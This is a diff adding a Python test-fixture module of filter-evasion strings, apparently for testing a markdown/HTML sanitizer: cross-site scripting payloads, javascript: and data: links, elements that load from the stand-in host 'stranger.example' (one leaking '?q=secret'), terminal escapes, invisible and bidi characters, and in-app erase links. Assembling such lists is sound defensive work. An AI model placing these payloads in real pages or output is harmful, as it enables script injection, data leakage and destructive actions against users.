@@ -1,0 +1,45 @@
+"""Texts that want to become more than text, one a known way: markup, links, elements that load, what decoders undo.
+
+From the OWASP cheat sheet on filter evasion and the advisories that SECURITY.md names.
+"""
+
+STRANGER = "stranger.example"
+ATTACKS = (
+    "<script>window.fired=1;alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    f'![" onerror="alert(1)](http://{STRANGER}/a.png)',
+    f"![x](http://{STRANGER}/?q=secret)",
+    f"![x](//{STRANGER}/p.png) ![y]( http://{STRANGER}/q.png 't')",
+    f"[![x](http://{STRANGER}/i)](javascript:alert(1))",
+    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
+    f'<svg><image href="http://{STRANGER}/s.svg"/><use href="data:image/svg+xml,x#x"/></svg>',
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    f"<iframe src=//{STRANGER}></iframe><object data=//{STRANGER}></object><embed src=//{STRANGER}>",
+    f"<link rel=stylesheet href=//{STRANGER}/s.css><style>@import '//{STRANGER}/t.css';</style>",
+    f"<meta http-equiv=refresh content='0;url=http://{STRANGER}/'><base href=http://{STRANGER}/>",
+    f'<div style="background:url(http://{STRANGER}/d)">x</div>',
+    f"<video poster=//{STRANGER}/p src=//{STRANGER}/v onerror=alert(1)></video><audio src=//{STRANGER}/a>",
+    f"<picture><source srcset=//{STRANGER}/s><img srcset='//{STRANGER}/t 2x'></picture>",
+    f"<form action=http://{STRANGER}/ method=post><button formaction=javascript:alert(1)>go</button></form>",
+    f"<a href=javascript:alert(1)>a</a> <a href=' java\tscript:alert(1)'>b</a> <a ping=//{STRANGER} href=#>c</a>",
+    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html;base64,PHNjcmlwdD4=) [d](vbscript:x)",
+    "[e](&#106;avascript:alert(1)) [f](java&Tab;script:alert(1)) <javascript:alert(1)>",
+    f"[ref]: http://{STRANGER}/ref 'x'\n[ref] ![ref]\n\n<http://{STRANGER}/auto> http://{STRANGER}/bare",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt; &#60;img src=x onerror=alert(1)&#62;",
+    "＜script＞alert(1)＜/script＞ ‹img src=x onerror=alert(1)›",
+    "<!--><img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]> <?x <img src=x onerror=alert(1)> ?>",
+    "`<img src=x onerror=alert(1)>` ``` \n```html\n<img src=x onerror=alert(1)>\n```\n~~~\n</code></pre><script>x</script>",
+    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]-->B; click A javascript:alert(1)\n```",
+    f"$\\href{{javascript:alert(1)}}{{x}}$ $$\\includegraphics{{http://{STRANGER}/k}}$$ \\(\\htmlData{{a=b}}{{c}}\\)",
+    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ![x](javascript:alert(1)) |",
+    "<input autofocus onfocus=alert(1)> <x onclick=alert(1) tabindex=1 id=x autofocus onfocus=alert(1)>",
+    "</div></p></li></ul></body></html><script>alert(1)</script>",
+    "\"'><img src=x onerror=alert(1)>{{constructor.constructor('alert(1)')()}} ${alert(1)} #{alert(1)} <%= 1 %>",
+    "\x1b[31mred\x1b[0m \x1b]8;;http://stranger.example\x07link\x1b]8;;\x07 \x9b31m \x07",
+    "\u202ecod.exe\u202c \u2066x\u2069 \u200f\u061c \ufeff\u200b\u2060 \U000e0041\U000e0042",
+    "[#rd:settings:erase](#rd:settings:erase) <a href='#rd:library:remove:0123456789abcdef'>harmless</a>",
+)
